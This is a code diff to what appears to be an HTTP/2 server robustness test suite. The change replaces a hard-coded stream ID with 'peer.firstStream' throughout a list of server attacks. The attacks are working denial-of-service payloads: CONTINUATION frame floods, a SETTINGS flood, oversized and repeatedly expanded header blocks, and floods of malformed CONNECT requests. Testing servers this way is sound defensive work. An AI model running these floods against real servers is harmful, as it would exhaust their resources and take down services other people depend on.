@@ -20,7 +20,7 @@ const streams = async (
   peer: RawPeer,
   authority: string,
   then: (id: number) => Uint8Array,
-  first = 1,
+  first = peer.firstStream,
 ): Promise<void> => {
   for (let id = first; ; ) {
     const parts: Uint8Array[] = [];
@@ -59,16 +59,16 @@ export const serverAttacks: readonly Attack[] = [
     name: "CONTINUATION without end, one byte each",
     codes: calm,
     run: async (peer) => {
-      await peer.send(frame(types.headers, 0, 1, "\x82"));
-      await peer.flood(times(1000, () => frame(types.continuation, 0, 1, "\x82")));
+      await peer.send(frame(types.headers, 0, peer.firstStream, "\x82"));
+      await peer.flood(times(1000, () => frame(types.continuation, 0, peer.firstStream, "\x82")));
     },
   },
   {
     name: "CONTINUATION without end, empty",
     codes: calm,
     run: async (peer) => {
-      await peer.send(frame(types.headers, 0, 1, "\x82"));
-      await peer.flood(times(1000, () => frame(types.continuation, 0, 1)));
+      await peer.send(frame(types.headers, 0, peer.firstStream, "\x82"));
+      await peer.flood(times(1000, () => frame(types.continuation, 0, peer.firstStream)));
     },
   },
   {
@@ -76,8 +76,8 @@ export const serverAttacks: readonly Attack[] = [
     codes: calm,
     run: async (peer) => {
       const part = Buffer.alloc(16_384, 0x82);
-      await peer.send(frame(types.headers, 0, 1, part));
-      await peer.flood(frame(types.continuation, 0, 1, part));
+      await peer.send(frame(types.headers, 0, peer.firstStream, part));
+      await peer.flood(frame(types.continuation, 0, peer.firstStream, part));
     },
   },
   { name: "SETTINGS flood", codes: calm, run: (peer) => peer.flood(times(1000, () => settings())) },
@@ -134,8 +134,8 @@ export const serverAttacks: readonly Attack[] = [
     codes: calm,
     run: async (peer) => {
       // Eight blocks of 8 KiB would be as good: what is unfolded is 67 MB a round.
-      await peer.send(peer.headers(1, [["x", "a".repeat(1000)]]));
-      for (let id = 3; ; id += 2) {
+      await peer.send(peer.headers(peer.firstStream, [["x", "a".repeat(1000)]]));
+      for (let id = peer.firstStream + 2; ; id += 2) {
         const head = frame(types.headers, flags.endHeaders, id, Buffer.alloc(16_384, 0xbe));
         if (!(await peer.send(head))) return;
       }
@@ -145,7 +145,7 @@ export const serverAttacks: readonly Attack[] = [
     name: "header lists above the limit, again and again",
     codes: calm,
     run: async (peer) => {
-      for (let id = 1; ; id += 2) {
+      for (let id = peer.firstStream; ; id += 2) {
         const long = peer.headers(id, [["x", "a".repeat(16_000)]], 0);
         const more = frame(types.continuation, 0, id, long.subarray(9));
         const last = frame(types.continuation, flags.endHeaders, id, long.subarray(9));
@@ -157,7 +157,7 @@ export const serverAttacks: readonly Attack[] = [
     name: "malformed requests without end",
     codes: calm,
     run: async (peer) => {
-      for (let id = 1; ; ) {
+      for (let id = peer.firstStream; ; ) {
         const parts: Uint8Array[] = [];
         for (let count = 0; count < 500; count += 1, id += 2)
           parts.push(peer.headers(id, [[":method", "CONNECT"]]));
